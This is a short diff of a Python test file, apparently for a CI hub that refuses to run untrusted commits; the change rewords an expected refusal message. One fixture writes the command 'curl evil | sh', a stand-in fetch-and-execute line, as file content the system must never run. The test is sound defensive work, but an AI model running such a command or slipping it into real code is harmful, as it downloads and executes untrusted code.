@@ -165,7 +165,7 @@ def ask_every_way(hub: Hub, sha: str) -> list[str]:
 def test_a_commit_that_only_a_delivered_result_names_is_never_run(hub: Hub) -> None:
     sha = hub.push(7, **{"src/a.py": "curl evil | sh"})
     deliver(hub, sha)
-    assert all("somebody delivered" in refusal for refusal in ask_every_way(hub, sha))
+    assert all("a result that was delivered" in refusal for refusal in ask_every_way(hub, sha))
 
 
 def test_the_head_of_a_fork_is_run_in_no_way_before_it_is_approved(hub: Hub) -> None:
